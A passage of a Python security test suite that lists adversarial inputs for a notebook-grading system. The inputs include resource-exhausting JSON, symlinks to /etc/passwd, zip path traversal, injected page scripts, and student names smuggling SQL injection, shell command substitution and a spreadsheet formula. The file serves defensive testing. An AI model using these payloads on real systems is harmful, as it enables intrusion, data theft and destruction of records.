        "answers whose few bytes claim gigabytes, or a structure of exabytes",
        answering(
            """lambda path: open(path, 'wb').write(message(critic(b'{"array":["<f8",[4194304,1024]]}'), bytes(8)))""",
            """lambda path: open(path, 'wb').write(message(critic(b'{"array":["<f8",[0,67108864]]}')))""",
            "lambda path: open(path, 'wb').write((2**63).to_bytes(8, 'little') + critic(b'1'))",
            "lambda path: open(path, 'wb').truncate(2**27)",
        ),
        deserved=0,
        unsealed=NO_ANSWERS,
        verdicts=("refused",),
    ),
    Attack(
        "large_answers",
        "an answer below the size limit with millions of lists in it, or as many as its structure may hold, or very deep",
        answering(
            "lambda path: open(path, 'wb').write(message(critic(b'[' + b'{\"list\":[]},' * 4_000_000 + b'1]')))",
            "lambda path: open(path, 'wb').write(message(critic(b'[' + b'[],' * 340_000 + b'1]')))",
            "lambda path: open(path, 'wb').write(message(critic(b'{\"list\":[' * 40_000)))",
        ),
        deserved=0,
        unsealed=NO_ANSWERS,
        verdicts=ENDS[1:],
    ),
    Attack(
        "linked_answers",
        "answers that are links, pipes, devices and hard links",
        answering(
            "fresh(lambda path: os.symlink('/etc/passwd', path))",
            "fresh(lambda path: os.symlink(SCENE['root'] + '/private/answers.txt', path))",
            "fresh(os.mkfifo)",
            "fresh(lambda path: os.symlink('/dev/zero', path))",
            "fresh(os.mkdir)",
            before="""
import shutil
def fresh(make):
    def instead(path):
        shutil.rmtree(path, ignore_errors=True)
        if os.path.lexists(path):
            os.unlink(path)
        make(path)
    return instead
""",
        ),
        deserved=0,
        unsealed=NO_ANSWERS,
        verdicts=("refused",),
    ),
    Attack("huge_notebook", "a notebook of 100 MB", build=huge, deserved=0, verdicts=("refused",)),
    Attack(
        "deep_notebook",
        "JSON nested 100000 deep",
        build=raw('{"cells": ' + "[" * 100_000),
        deserved=0,
        verdicts=("refused",),
    ),
    Attack(
        "broken_notebook",
        "half a JSON document",
        build=raw('{"cells": [{"cell_type": "co'),
        deserved=0,
        verdicts=("refused",),
    ),
    Attack(
        "long_text",
        "a cell of 20 MB of brackets, which Markdown takes hours to read",
        build=brackets,
        deserved=0,
        verdicts=("refused",),
        unsealed="it would take hours",
    ),
    Attack(
        "strange_file",
        "a file whose name is no text, and no notebook",
        build=strange_file,
        deserved=0,
        verdicts=("refused",),
    ),
    Attack(
        "folder_notebook",
        "a notebook that is a folder",
        build=folder_notebook,
        deserved=0,
        verdicts=("refused",),
    ),
    Attack(
        "pipe_notebook",
        "a notebook that is a named pipe",
        build=pipe,
        deserved=0,
        verdicts=("refused",),
        unsealed="it would wait for ever",
    ),
    Attack(
        "bad_metadata", "metadata of the wrong types", build=bad_metadata, deserved=0, verdicts=("failed",)
    ),
    Attack(
        "timestamp_text",
        "a timestamp.txt that holds no time",
        build=strange_timestamp("soon\n\x00 '; drop table grade"),
    ),
    Attack(
        "timestamp_pipe",
        "a timestamp.txt that is a named pipe",
        build=strange_timestamp("pipe"),
        unsealed="it would wait for ever",
    ),
    Attack("timestamp_folder", "a timestamp.txt that is a folder", build=strange_timestamp("folder")),
    Attack(
        "timestamp_large",
        "a timestamp.txt of 256 MiB",
        build=strange_timestamp("large"),
        unsealed="it is only slow",
    ),
    Attack(
        "scripts",
        "scripts in every text that the feedback page might show",
        build=scripted,
        deserved=0,
        on_check=True,
        verdicts=("failed",),
    ),
    Attack("zip_climbs", "an archive whose members climb out (zip_collect)", build=climbing_archive),
    Attack(
        "zip_poses",
        "an archive in its archive, with a newer notebook in another's name (zip_collect)",
        build=nested_archive,
    ),
]

# --- names ----------------------------------------------------------------------------------------

COPES = "stock nbgrader copes too"
NAMES = [
    Attack("name_lines", "a name with a line break", student="~two\nlines: 0 points"),
    Attack(
        "name_right_to_left",
        "a name that turns the direction of writing",
        student="bob\u202egnp.ti\u202c",
        unsealed=COPES,
    ),
    Attack(
        "name_quotes",
        "a name with quotes, a shell command and SQL",
        student="x'; drop table grade; -- \"$(id)`id`",
        unsealed=COPES,
    ),
    Attack("name_dash", "a name like an option", student="--force", unsealed=COPES),
    Attack("name_formula", "a name that a spreadsheet would run", student="=1+cmd|' '!A0", unsealed=COPES),
    Attack(
        "name_pattern",
        "a name that is a pattern and a format",
        student="[a-z]*{student_id}%s?",
        unsealed=COPES,
    ),
    Attack("name_long", "a name of 200 letters", student="l" * 200, unsealed=COPES),
]

ATTACKS = [*FORGING, *READING, *REACHING, *USING_UP, *ENDING, *TRUSTED, *NAMES]
